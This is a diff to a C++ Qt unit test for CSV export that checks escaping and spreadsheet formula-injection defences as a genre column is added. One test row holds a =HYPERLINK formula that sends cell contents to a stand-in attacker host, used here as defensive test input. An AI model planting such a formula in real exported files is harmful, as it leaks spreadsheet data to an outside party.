@@ -2,6 +2,7 @@
 #include "TestHarness.h"
 #include "core/library/ExportService.h"
 #include "core/library/MetadataImport.h"
+#include "core/text/TextUtils.h"
 
 #include <QDir>
 #include <QLocale>
@@ -35,72 +36,110 @@ class ExportServiceTest : public QObject {
 private Q_SLOTS:
     void line_data()
     {
+        QTest::addColumn<QString>("genre"); // how a text cell is written
         QTest::addColumn<QString>("title");
         QTest::addColumn<QVariant>("rating"); // invalid: absent
         QTest::addColumn<QVariant>("year");
         QTest::addColumn<QByteArray>("line"); // never the path or the page count
         const QVariant none;
         const double nan = std::numeric_limits<double>::quiet_NaN();
-        QTest::newRow("plain") << "T" << none << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
-        QTest::newRow("empty") << "" << none << none << QByteArray("b.pdf,3,1,,0,,,,,,,,");
-        QTest::newRow("comma") << "a,b" << none << none << QByteArray("b.pdf,3,1,\"a,b\",0,,,,,,,,");
-        QTest::newRow("quote") << "say \"hi\"" << none << none
-                               << QByteArray("b.pdf,3,1,\"say \"\"hi\"\"\",0,,,,,,,,");
-        QTest::newRow("line feed") << "1\n2" << none << none << QByteArray("b.pdf,3,1,\"1\n2\",0,,,,,,,,");
+        QTest::newRow("plain") << "T"
+                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,T,,,,,,,");
+        QTest::newRow("empty") << ""
+                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
+        QTest::newRow("comma") << "a,b"
+                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"a,b\",,,,,,,");
+        QTest::newRow("quote") << "say \"hi\""
+                               << "T" << none << none
+                               << QByteArray("b.pdf,3,1,T,0,\"say \"\"hi\"\"\",,,,,,,");
+        QTest::newRow("line feed") << "1\n2"
+                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"1\n2\",,,,,,,");
         QTest::newRow("carriage return")
-            << "1\r2" << none << none << QByteArray("b.pdf,3,1,\"1\r2\",0,,,,,,,,");
-        // What a spreadsheet would run gets an apostrophe; an apostrophe of the title's own is kept as is
+            << "1\r2"
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"1\r2\",,,,,,,");
+        // What a spreadsheet would run gets an apostrophe; an apostrophe of the text's own is kept as is
         // unless the reader would take it for ours.
         QTest::newRow("formula, tab, blanks")
-            << "=\t x " << none << none << QByteArray("b.pdf,3,1,'=\t x ,0,,,,,,,,");
+            << "=\t x "
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'=\t x ,,,,,,,");
         QTest::newRow("link formula")
-            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" << none << none
+            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+            << "T" << none << none
             << QByteArray(
-                   "b.pdf,3,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",0,,,,,,,,");
-        QTest::newRow("plus") << "+1" << none << none << QByteArray("b.pdf,3,1,'+1,0,,,,,,,,");
-        QTest::newRow("minus") << "-x" << none << none << QByteArray("b.pdf,3,1,'-x,0,,,,,,,,");
-        QTest::newRow("at") << "@SUM(A1)" << none << none << QByteArray("b.pdf,3,1,'@SUM(A1),0,,,,,,,,");
-        QTest::newRow("tab first") << "\tx" << none << none << QByteArray("b.pdf,3,1,'\tx,0,,,,,,,,");
+                   "b.pdf,3,1,T,0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,,,,");
+        QTest::newRow("plus") << "+1"
+                              << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'+1,,,,,,,");
+        QTest::newRow("minus") << "-x"
+                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'-x,,,,,,,");
+        QTest::newRow("at") << "@SUM(A1)"
+                            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'@SUM(A1),,,,,,,");
+        QTest::newRow("tab first") << "\tx"
+                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'\tx,,,,,,,");
         QTest::newRow("carriage return first")
-            << "\rx" << none << none << QByteArray("b.pdf,3,1,\"'\rx\",0,,,,,,,,");
+            << "\rx"
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"'\rx\",,,,,,,");
         QTest::newRow("apostrophe before formula")
-            << "'=x" << none << none << QByteArray("b.pdf,3,1,''=x,0,,,,,,,,");
+            << "'=x"
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,''=x,,,,,,,");
         QTest::newRow("own apostrophe")
-            << "'Round Midnight" << none << none << QByteArray("b.pdf,3,1,'Round Midnight,0,,,,,,,,");
-        QTest::newRow("two apostrophes") << "''=x" << none << none << QByteArray("b.pdf,3,1,'''=x,0,,,,,,,,");
+            << "'Round Midnight"
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'Round Midnight,,,,,,,");
+        QTest::newRow("two apostrophes") << "''=x"
+                                         << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'''=x,,,,,,,");
         QTest::newRow("formula sign inside")
-            << "a=b-c" << none << none << QByteArray("b.pdf,3,1,a=b-c,0,,,,,,,,");
-        QTest::newRow("vertical tab") << "1\v2" << none << none << QByteArray("b.pdf,3,1,\"1\v2\",0,,,,,,,,");
-        QTest::newRow("form feed") << "1\f2" << none << none << QByteArray("b.pdf,3,1,\"1\f2\",0,,,,,,,,");
-        QTest::newRow("next line") << "1\u00852" << none << none
-                                   << QByteArray("b.pdf,3,1,\"1\xc2\x85"
-                                                 "2\",0,,,,,,,,");
-        QTest::newRow("line separator") << "1\u20282" << none << none
-                                        << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa8"
-                                                      "2\",0,,,,,,,,");
-        QTest::newRow("paragraph separator") << "1\u20292" << none << none
-                                             << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa9"
-                                                           "2\",0,,,,,,,,");
-        QTest::newRow("non-ASCII") << "\u00e9\U0001D11E" << none << none
-                                   << QByteArray("b.pdf,3,1,\xc3\xa9\xf0\x9d\x84\x9e,0,,,,,,,,");
+            << "a=b-c"
+            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,a=b-c,,,,,,,");
+        QTest::newRow("vertical tab") << "1\v2"
+                                      << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"1\v2\",,,,,,,");
+        QTest::newRow("form feed") << "1\f2"
+                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"1\f2\",,,,,,,");
+        QTest::newRow("next line") << "1\u00852"
+                                   << "T" << none << none
+                                   << QByteArray("b.pdf,3,1,T,0,\"1\xc2\x85"
+                                                 "2\",,,,,,,");
+        QTest::newRow("line separator") << "1\u20282"
+                                        << "T" << none << none
+                                        << QByteArray("b.pdf,3,1,T,0,\"1\xe2\x80\xa8"
+                                                      "2\",,,,,,,");
+        QTest::newRow("paragraph separator") << "1\u20292"
+                                             << "T" << none << none
+                                             << QByteArray("b.pdf,3,1,T,0,\"1\xe2\x80\xa9"
+                                                           "2\",,,,,,,");
+        QTest::newRow("non-ASCII") << "\u00e9\U0001D11E"
+                                   << "T" << none << none
+                                   << QByteArray("b.pdf,3,1,T,0,\xc3\xa9\xf0\x9d\x84\x9e,,,,,,,");
         QTest::newRow("4 and a year")
-            << "T" << QVariant(4.0) << QVariant(1959) << QByteArray("b.pdf,3,1,T,0,,,1959,,,4.0,,");
-        QTest::newRow("0") << "T" << QVariant(0.0) << none << QByteArray("b.pdf,3,1,T,0,,,,,,0.0,,");
-        QTest::newRow("rounds") << "T" << QVariant(3.96) << none << QByteArray("b.pdf,3,1,T,0,,,,,,4.0,,");
-        QTest::newRow("binary 4.25") << "T" << QVariant(4.25) << none
-                                     << QByteArray("b.pdf,3,1,T,0,,,,,,4.2,,");
-        QTest::newRow("large, negative") << "T" << QVariant(-1234567.5) << QVariant(-30)
-                                         << QByteArray("b.pdf,3,1,T,0,,,-30,,,-1234567.5,,");
-        QTest::newRow("not a number") << "T" << QVariant(nan) << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
+            << "T"
+            << "T" << QVariant(4.0) << QVariant(1959) << QByteArray("b.pdf,3,1,T,0,T,,1959,,,4.0,,");
+        QTest::newRow("0") << "T"
+                           << "T" << QVariant(0.0) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,0.0,,");
+        QTest::newRow("rounds") << "T"
+                                << "T" << QVariant(3.96) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,4.0,,");
+        QTest::newRow("binary 4.25") << "T"
+                                     << "T" << QVariant(4.25) << none
+                                     << QByteArray("b.pdf,3,1,T,0,T,,,,,4.2,,");
+        QTest::newRow("large, negative") << "T"
+                                         << "T" << QVariant(-1234567.5) << QVariant(-30)
+                                         << QByteArray("b.pdf,3,1,T,0,T,,-30,,,-1234567.5,,");
+        // A title stored before titles were folded on their way in is folded on its way out.
+        QTest::newRow("title with control characters")
+            << ""
+            << "Ctl\x01\x07\x1b\x7f"
+               "chars\nNext"
+            << none << none << QByteArray("b.pdf,3,1,Ctlchars Next,0,,,,,,,,");
+        QTest::newRow("not a number") << "T"
+                                      << "T" << QVariant(nan) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,,,");
     }
 
     void line()
     {
+        QFETCH(QString, genre);
         QFETCH(QString, title);
         QFETCH(QVariant, rating);
         QFETCH(QVariant, year);
         QFETCH(QByteArray, line);
         BookmarkEntry e = entry(QStringLiteral("b.pdf"), 3, title);
+        e.genre = genre;
         e.pdfFilePath = QStringLiteral("/secret/b.pdf");
         e.totalPages = 777;
         if (rating.isValid())
@@ -115,7 +154,8 @@ private Q_SLOTS:
         // and reads back as it was
         const auto records = MetadataImport::parseCSV(text);
         QVERIFY(records && records.value().size() == 1);
-        QCOMPARE(records.value().first().title, std::optional(title));
+        QCOMPARE(records.value().first().genre, std::optional(genre));
+        QCOMPARE(records.value().first().title, std::optional(TextUtils::foldedTitle(title)));
     }
 
     void emptyListIsHeaderOnly() { QCOMPARE(ExportService::csvText({}), header); }
